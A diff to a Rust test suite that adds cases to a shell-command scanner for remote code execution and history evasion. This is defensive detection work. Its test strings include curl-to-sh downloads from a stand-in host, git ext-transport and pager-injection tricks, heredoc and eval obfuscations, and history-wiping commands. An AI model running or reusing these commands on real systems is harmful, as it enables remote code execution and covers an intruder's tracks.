@@ -3308,8 +3308,46 @@ fn command_lines_kept_in_variables_and_git_settings_are_read() {
             rce,
             true,
         ),
+        // A second review's: the last of git's environment settings counts; the ext transport's
+        // words; a variable run through a wrapper; history written over before it is read.
+        (
+            format!("GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=less GIT_CONFIG_VALUE_0='{line}' git log\n"),
+            rce,
+            true,
+        ),
+        (
+            format!("GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='{line}' GIT_CONFIG_VALUE_0=less git log\n"),
+            rce,
+            false,
+        ),
+        (
+            "git -c protocol.ext.allow=always clone 'ext::sh -c curl% -s% http://10.0.0.9/x|sh' x\n"
+                .into(),
+            rce,
+            true,
+        ),
+        (
+            "curl -s -o /tmp/w.sh http://10.0.0.9/w\ngit clone 'ext::sh /tmp/w.sh' x\n".into(),
+            rce,
+            true,
+        ),
+        (
+            "x=$(curl -s http://10.0.0.9/x)\nsudo $x\n".into(),
+            rce,
+            true,
+        ),
+        (
+            "history -c && history -w && history -r\n".into(),
+            "SKG-EVADE-001",
+            true,
+        ),
         // Look-alikes: the usual values, a setting that is no command, an alias that is git's,
-        // the shared-history prompt command.
+        // the shared-history prompt command, a prompt that shows a download.
+        (
+            "export PS1='$(curl -s \"wttr.in/?format=1\") \\w\\$ '\n".into(),
+            rce,
+            false,
+        ),
         (
             "export PROMPT_COMMAND='history -a; history -c; history -r'\n".into(),
             "SKG-EVADE-001",
@@ -3432,8 +3470,52 @@ fn interpreters_by_versioned_names_and_downloads_that_name_the_command() {
             rce,
             true,
         ),
+        // A second review's: quotes of their own in a substitution in double quotes; a
+        // comment-like word in quotes after the document; a line continued; a document in a
+        // longer program; one read into a variable that is run.
+        (
+            "bash -c \"true $(echo \"'\" >/dev/null); curl -s http://10.0.0.9/x | sh\"\n",
+            rce,
+            true,
+        ),
+        (
+            "echo \"$(cat <<EOF)\" \" #\"; curl -s http://10.0.0.9/x | sh\nnotes\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "(cat <<EOF) \\\n| sh\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "sh -c \"set -e; $(cat <<'EOF')\"\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            true,
+        ),
+        (
+            "read -r -d '' x <<'EOF'\ncurl -s http://10.0.0.9/x | sh\nEOF\neval \"$x\"\n",
+            rce,
+            true,
+        ),
+        (
+            "source <(cat <<'EOF'\ncurl -s http://10.0.0.9/x | sh\nEOF\n)\n",
+            rce,
+            true,
+        ),
         // Look-alikes: a download that is an argument's data, a version that names no
-        // interpreter, a document that is printed, where a program is found.
+        // interpreter, a document that is printed, where a program is found, a backquote that
+        // opens an argument, a download naming a folder of the program's path.
+        (
+            "cat <<EOF `echo notes.txt`\ncurl -s http://10.0.0.9/x | sh\nEOF\n",
+            rce,
+            false,
+        ),
+        (
+            "\"$HOME/tools/$(curl -fsSL https://example.com/stable.txt)/bin/tool\" --version\n",
+            rce,
+            false,
+        ),
         ("echo \"$(curl -s https://api.ipify.org)\"\n", rce, false),
         ("curl -s http://10.0.0.9/x | md5\n", rce, false),
         (
